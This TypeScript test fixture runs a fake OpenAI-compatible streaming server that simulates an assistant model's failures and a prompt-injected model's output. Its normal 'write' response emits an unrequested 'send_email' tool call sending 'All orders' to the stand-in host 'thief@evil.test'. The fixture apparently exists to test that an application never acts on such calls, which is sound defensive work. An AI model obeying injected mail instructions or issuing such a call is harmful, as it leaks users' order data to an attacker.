import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { answerTo } from './answer.ts';
import { type Behavior, isBehavior } from './behaviors.ts';
import { assistantKey, assistantModel } from './names.ts';

/** A request with every byte of it. */
interface Heard {
  head: string;
  body: string;
  /** Whether its sender left before the answer's end. */
  isLeft: boolean;
}

interface Options {
  port?: number;
  /** Between words; people watch them come. */
  wordMs?: number;
  /** Requests to remember. */
  most?: number;
}

/**
 * An OpenAI-compatible server without a model: streams a draft from the facts it's given, obeys whatever a mail tells it
 * to do, fails on request, and remembers what it was sent.
 */
export async function startAssistantModel({ port = 0, wordMs = 0, most = 1_000 }: Options = {}) {
  const heard: Heard[] = [];
  let behavior: Behavior = 'write';
  let next: Behavior[] = [];
  const chat = async (request: IncomingMessage, response: ServerResponse) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks).toString('utf8');
    const head = [`${request.method} ${request.url}`, ...request.rawHeaders].join('\n');
    const one: Heard = { head, body, isLeft: false };
    heard.push(one);
    if (heard.length > most) heard.shift();
    response.once('close', () => (one.isLeft = !response.writableFinished));
    await behave(next.shift() ?? behavior, body, response, wordMs);
  };
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://localhost');
    if (request.method === 'POST' && pathname === '/v1/chat/completions') {
      if (request.headers.authorization !== `Bearer ${assistantKey}`)
        return answer(response, 401, 'Wrong key');
      // Whoever leaves early breaks the stream.
      chat(request, response).catch(() => response.destroy());
      return;
    }
    const wanted = pathname.slice('/behavior/'.length);
    if (request.method === 'PUT' && pathname.startsWith('/behavior/') && isBehavior(wanted)) {
      behavior = wanted;
      return answer(response, 200, wanted);
    }
    if (request.method === 'GET' && pathname === '/requests')
      return answer(response, 200, JSON.stringify(heard));
    return answer(response, 404, 'Not found');
  });
  server.listen(port, '127.0.0.1');
  await once(server, 'listening');
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    heard,
    /** Settings for a server program that drafts with it. */
    env: { ASSISTANT_URL: `${origin}/v1`, ASSISTANT_MODEL: assistantModel, ASSISTANT_KEY: assistantKey },
    /** From now on; or the next requests one by one, then as before. */
    behave(now: Behavior, ...then: Behavior[]): void {
      if (then.length > 0) next = [now, ...then];
      else [behavior, next] = [now, []];
    },
    async close(): Promise<void> {
      server.closeAllConnections();
      await new Promise((done) => server.close(done));
    },
  };
}

function answer(response: ServerResponse, status: number, text: string): void {
  response.writeHead(status, { 'content-type': 'text/plain; charset=utf-8' }).end(text);
}

async function behave(
  behavior: Behavior,
  body: string,
  response: ServerResponse,
  wordMs: number,
): Promise<void> {
  const say = (data: unknown) => response.write(`data: ${JSON.stringify(data)}\n\n`);
  const begin = () => response.writeHead(200, { 'content-type': 'text/event-stream' });
  const sayWords = async (text: string) => {
    for (const word of text.match(/\s*\S+/g) ?? []) {
      if (response.destroyed) return;
      say({ choices: [{ index: 0, delta: { content: word }, finish_reason: null }] });
      if (wordMs > 0) await sleep(wordMs);
    }
  };
  const text = answerTo(contentOf(body));
  switch (behavior) {
    case 'busy':
      response.writeHead(429, { 'content-type': 'application/json', 'retry-after': '0' });
      return void response.end('{"error":{"message":"Rate limit reached for requests"}}');
    case 'fail':
      return answer(response, 500, 'TypeError: cannot read properties of undefined');
    case 'refuse':
      return answer(response, 401, 'Incorrect API key provided');
    case 'nonsense':
      begin();
      return void response.end('data: {"choices": "<html>\n\ndata: nothing\n\n');
    case 'not-a-stream':
      return answer(response, 200, '<html>Welcome to our hotel</html>');
    case 'stall':
      return;
    case 'cut-before':
      begin().flushHeaders();
      return void response.destroy();
    case 'stall-midway':
    case 'cut-off':
      begin();
      await sayWords(text.slice(0, text.length / 2));
      if (behavior === 'stall-midway') return;
      await sleep(20);
      return void response.destroy();
    case 'empty':
      begin();
      return void response.end('data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n');
    case 'endless':
      begin();
      while (!response.destroyed) {
        await sayWords('and so on '.repeat(100));
        await sleep(1);
      }
      return;
    case 'write':
      begin();
      say({ choices: [{ index: 0, delta: { role: 'assistant', content: '' }, finish_reason: null }] });
      // Nobody gave it tools, and nobody may act on what it calls.
      say({ choices: [{ index: 0, delta: { tool_calls: [toolCall] }, finish_reason: null }] });
      await sayWords(text);
      say({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] });
      say({
        choices: [],
        usage: { prompt_tokens: Math.ceil(body.length / 4), completion_tokens: Math.ceil(text.length / 4) },
      });
      return void response.end('data: [DONE]\n\n');
  }
}

const toolCall = {
  index: 0,
  id: 'call_1',
  type: 'function',
  function: { name: 'send_email', arguments: '{"to":"thief@evil.test","subject":"All orders"}' },
};

function contentOf(body: string): string {
  const { messages = [] } = JSON.parse(body) as { messages?: { role: string; content: string }[] };
  return messages.findLast(({ role }) => role === 'user')?.content ?? '';
}
